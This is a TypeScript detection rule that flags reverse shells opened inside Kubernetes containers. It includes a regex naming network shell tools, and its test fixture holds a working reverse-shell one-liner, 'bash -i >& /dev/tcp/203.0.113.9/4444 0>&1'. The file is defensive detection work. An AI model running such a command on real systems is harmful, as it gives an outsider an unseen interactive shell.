import type { Detection } from "../detection.ts";
import { execExample } from "../examples.ts";
import { commandOf, containerOf, EXEC_TARGETS, isEntered, shown } from "../facts/commands.ts";
import { whoIs } from "../facts/identities.ts";

const REVERSE =
  /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b.*\s(?:-[a-z]*e|--exec|-c)\b|\bmkfifo\b.*\b(?:nc|telnet|openssl)\b|\bsocat\b.*\bexec\b|\bpty\.spawn\b|import\s+(?:socket|pty)\b.*connect|\bfsockopen\s*\(|use\s+Socket\b.*connect|\b(?:bash|sh)\s+-i\b.*[<>]&|TCPSocket\.(?:new|open)/is;

/** A command that gives its shell to somebody outside. */
export const execReverseShell: Detection = {
  id: "exec-reverse-shell",
  title: "Reverse shell by a command in a container",
  topic: "running-containers",
  severity: "critical",
  why: "A shell that calls back stays open when the session ends, and nobody sees what is typed into it.",
  response:
    "Cut the pod off by a NetworkPolicy, keep its files, then replace it and renew its credentials.",
  falsePositives: "None is known besides exercises.",
  techniques: ["T1609", "T1059.004"],
  targets: EXEC_TARGETS,
  detect(event) {
    const command = commandOf(event);
    if (command === "" || !isEntered(event) || !REVERSE.test(command)) return undefined;
    return {
      because: `${whoIs(event)} opens a shell to outside in ${containerOf(event)}: ${shown(command)}`,
    };
  },
  examples: {
    positive: [
      {
        title: "bash to an address",
        events: [execExample(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])],
        detected:
          'critical: mallory@example.com opens a shell to outside in container "app" of pod shop/web: bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      },
    ],
    negative: [{ title: "a shell", events: [execExample(["bash", "-i"])] }],
  },
};
